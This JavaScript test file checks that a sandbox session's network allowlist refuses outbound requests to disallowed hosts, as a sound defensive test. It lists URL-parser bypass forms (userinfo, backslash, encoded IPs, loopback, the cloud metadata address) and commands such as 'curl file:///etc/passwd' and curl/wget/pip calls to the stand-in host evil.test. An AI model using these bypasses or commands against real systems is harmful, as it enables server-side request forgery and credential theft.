// The allowlist at the level of the session: every path out of the session
// (curl, wget, Python's urllib/http.client/sockets/pyodide.http, pip) with a
// host that is not allowed, disguised in the ways URL parsers disagree on.
// (The URL parser itself is tested by test/js/net_policy.test.mjs.) No real
// server is needed: a refusal is what is checked, and nothing here may reach
// the network.
export const options = { allowedHosts: ['allowed.test'] };

const C = 'allowlist';
const refused = /allowedHosts|not allowed|not in this session|refused|denied/i;
const curlRefused = { exit: 'nonzero', stderr: refused };
// a URL the parser rejects outright fails before any host is looked at (curl's exit 3)
const curlRefusedOrBad = { exit: 'nonzero', stderr: /allowedHosts|not allowed|not in this session|refused|denied|bad\/illegal format/i };
const py = (code) => `python3 - <<'PYEOF'\n${code}\nPYEOF`;

const urls = [
  ['plain', 'http://evil.test/'],
  ['userinfo', 'http://allowed.test@evil.test/'],
  ['userinfo-colon', 'http://allowed.test:80@evil.test/'],
  ['fragment-at', 'http://evil.test#@allowed.test/'],
  ['backslash', 'http://evil.test\\\\@allowed.test/'],
  ['suffix', 'http://allowed.test.evil.test/'],
  ['prefix', 'http://evilallowed.test/'],
  ['ipv4', 'http://127.0.0.1/'],
  ['decimal-ip', 'http://2130706433/'],
  ['hex-ip', 'http://0x7f.0.0.1/'],
  ['octal-ip', 'http://0177.0.0.1/'],
  ['localhost', 'http://localhost/'],
  ['ipv6-loopback', 'http://[::1]/'],
  ['metadata', 'http://169.254.169.254/latest/meta-data/'],
];

export const cases = [
  ...urls.map(([name, url]) => ({
    id: `net/curl-${name}`, class: C, script: `curl -sS '${url}'`, expect: name === 'backslash' ? curlRefusedOrBad : curlRefused,
  })),
  { id: 'net/curl-file-scheme', class: C, script: "curl -sS file:///etc/passwd", expect: { exit: 'nonzero', not: /root:/ } },
  { id: 'net/curl-ftp-scheme', class: C, script: "curl -sS ftp://evil.test/x", expect: { exit: 'nonzero' } },
  { id: 'net/curl-proxy-env', class: C, script: "http_proxy=http://allowed.test:80 HTTPS_PROXY=http://allowed.test curl -sS http://evil.test/", expect: curlRefused },
  { id: 'net/wget', class: C, script: "wget -O - http://evil.test/", expect: { exit: 'nonzero', stderr: refused } },
  { id: 'net/wget-userinfo', class: C, script: "wget -O - 'http://allowed.test@evil.test/'", expect: { exit: 'nonzero', stderr: refused } },
  { id: 'net/py-urllib', class: C,
    script: py("import urllib.request\ntry:\n    urllib.request.urlopen('http://evil.test/', timeout=2)\n    print('ESCAPED')\nexcept Exception as e:\n    print('refused', type(e).__name__, e)"),
    expect: { exit: 0, stdout: /^refused / } },
  { id: 'net/py-http.client', class: C,
    script: py("import http.client\ntry:\n    c = http.client.HTTPConnection('evil.test', 80, timeout=2)\n    c.request('GET', '/')\n    print('ESCAPED', c.getresponse().status)\nexcept Exception as e:\n    print('refused', type(e).__name__)"),
    expect: { exit: 0, stdout: /^refused / } },
  { id: 'net/py-socket', class: C,
    script: py("import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', 80), timeout=2)\n    print('ESCAPED')\nexcept Exception as e:\n    print('refused', type(e).__name__)"),
    expect: { exit: 0, stdout: /^refused / } },
  { id: 'net/py-socket-listen', class: C,
    script: py("import socket\ntry:\n    s = socket.socket(); s.bind(('0.0.0.0', 8765)); s.listen(1)\n    print('ESCAPED listening')\nexcept Exception as e:\n    print('refused', type(e).__name__)"),
    expect: { exit: 0, stdout: /^refused / } },
  { id: 'net/py-udp', class: C,
    script: py("import socket\ntry:\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('8.8.8.8', 53))\n    print('ESCAPED')\nexcept Exception as e:\n    print('refused', type(e).__name__)"),
    expect: { exit: 0, stdout: /^refused / } },
  { id: 'net/py-js-fetch', class: C, script: "python3 -c 'import js; js.fetch(\"http://evil.test/\")'",
    expect: { exit: 1, stderr: /ModuleNotFoundError/ } },
  { id: 'net/py-pyfetch', class: C,
    script: py("import asyncio\ntry:\n    from pyodide.http import pyfetch\n    asyncio.run(pyfetch('http://evil.test/'))\n    print('ESCAPED')\nexcept Exception as e:\n    print('refused', type(e).__name__)"),
    expect: { exit: 0, stdout: /^refused / } },
  { id: 'net/pip-denied-index', class: C, script: 'pip install --index-url http://evil.test/simple somepkg',
    expect: { exit: 'nonzero', output: refused } },
  { id: 'net/api-allowedHosts-type', class: C,
    js: async ({ createSession }) => {
      let threw = null;
      try {
        (await createSession({ allowedHosts: 'evil.test' })).close();
      } catch (e) {
        threw = e;
      }
      if (!threw || threw.name !== 'OptionsError') throw new Error(`allowedHosts as a string: expected OptionsError, got ${threw}`);
    } },
];
